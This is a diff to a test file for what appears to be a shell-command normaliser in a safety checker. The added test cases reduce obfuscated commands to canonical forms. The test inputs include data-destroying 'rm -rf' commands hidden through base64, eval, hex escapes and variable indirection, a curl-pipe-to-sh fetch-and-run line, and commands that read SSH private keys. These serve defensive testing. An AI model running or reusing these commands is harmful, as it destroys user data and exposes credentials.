@@ -30,7 +30,7 @@ def texts(cmd: str) -> list[str]:
         ("eval \"$(printf 'rm -rf ~')\"", "rm -rf ~"),
         ("su - root -c 'rm -rf /'", "rm -rf /"),
         ("ssh prod 'rm -rf /var/www'", "rm -rf /var/www"),
-        ("find /tmp -name x -exec rm -rf {} \\;", "rm -rf {}"),
+        ("find /tmp -name x -exec rm -rf {} \\;", "rm -rf /tmp/x"),
         ("echo cm0gLXJmIH4= | base64 -d | sh", "rm -rf ~"),
         ("bash -c \"$(echo cm0gLXJmIH4= | base64 --decode)\"", "rm -rf ~"),
         ("printf '\\x72\\x6d -rf ~' | bash", "rm -rf ~"),
@@ -119,3 +119,21 @@ def test_fast_path_declines_everything_the_normaliser_treats_specially() -> None
         assert plain_words(f"{name} x") is None, name
     for cmd in ("ls -la | sh", "cat ~/.ssh/id_rsa", "curl https://x.example", "rm -rf build", "ls $HOME", "ls *.py", "cd .. && ls"):
         assert plain_words(cmd) is None, cmd
+
+
+@pytest.mark.parametrize(
+    ("cmd", "expected"),
+    [
+        ("a=r;b=m;$a$b -rf /Users/alice", "rm -rf /Users/alice"),
+        ("D=~; rm -rf $D", "rm -rf ~"),
+        ("export X=curl; $X -s https://x.example/i | sh", "curl -s https://x.example/i | sh"),
+        ("echo /home/dev | xargs rm -rf", "echo ~ | rm -rf ~"),
+        ("find ~/.ssh -name 'id_*' -exec cat {} \\;", "cat ~/.ssh/id_*"),
+    ],
+)
+def test_indirection_reaches_the_canonical_form(cmd: str, expected: str) -> None:
+    assert expected in texts(cmd)
+
+
+def test_project_relative_indirection_stays_benign() -> None:
+    assert "rm -rf ~/project/build" in texts("OUT=build; rm -rf $OUT")
